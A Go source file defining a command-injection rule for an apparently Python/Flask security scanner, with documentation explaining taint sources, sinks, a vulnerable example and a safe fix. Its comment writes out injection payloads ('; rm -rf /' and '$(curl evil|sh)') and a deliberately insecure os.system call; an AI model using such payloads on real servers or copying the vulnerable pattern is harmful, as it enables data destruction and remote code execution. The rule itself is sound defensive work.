package injection

import (
	"github.com/flaskguard/flaskguard/internal/finding"
	"github.com/flaskguard/flaskguard/internal/rules/rule"
	"github.com/flaskguard/flaskguard/internal/taint/spec"
)

// CommandInjection flags request data that reaches an operating-system
// command.
//
// # What it does
//
// Follows data from the request (query string, form, JSON body, headers,
// cookies, uploaded files, URL parameters of string and path converters)
// through assignments, string building, containers and calls across
// modules, and reports it when it reaches os.system, os.popen, a
// subprocess call with shell=True, the program of a subprocess call
// without a shell, os.exec* and os.spawn*. shlex.quote, int() and allow-list
// checks (if fmt not in FORMATS: abort(400)) make the value safe. The
// finding carries the trace from the source to the command.
//
// # Why is this bad
//
// A shell runs whatever the string says: `; rm -rf /`, `$(curl evil|sh)`
// or a backquoted command appended to a file name runs with the web
// server's rights (CWE-78).
//
// # Example
//
//	@app.route("/export")
//	def export():
//	    fmt = request.args.get("format", "pdf")
//	    os.system(f"pandoc note.md -o note.{fmt}")
//
// # Use instead
//
// Pass a list of arguments without a shell, and check values against an
// allow-list:
//
//	FORMATS = {"pdf", "docx", "html"}
//
//	@app.route("/export")
//	def export():
//	    fmt = request.args.get("format", "pdf")
//	    if fmt not in FORMATS:
//	        abort(400)
//	    subprocess.run(["pandoc", "note.md", "-o", f"note.{fmt}"], check=True)
//
// # References
//
//   - https://docs.python.org/3/library/subprocess.html#security-considerations
//   - https://owasp.org/www-community/attacks/Command_Injection
//   - https://cwe.mitre.org/data/definitions/78.html
var CommandInjection = rule.Rule{
	ID:           "FG0601",
	Name:         "command-injection",
	Practice:     6,
	CWE:          78,
	Severity:     finding.Critical,
	Confidence:   finding.HighConfidence,
	Summary:      "request data reaches an operating-system command",
	Fix:          "Run programs with a list of arguments and no shell (subprocess.run([...])); check values against an allow-list, or quote them with shlex.quote.",
	CheckProject: func(c *rule.Ctx) { c.ReportFlows(spec.Command) },
}
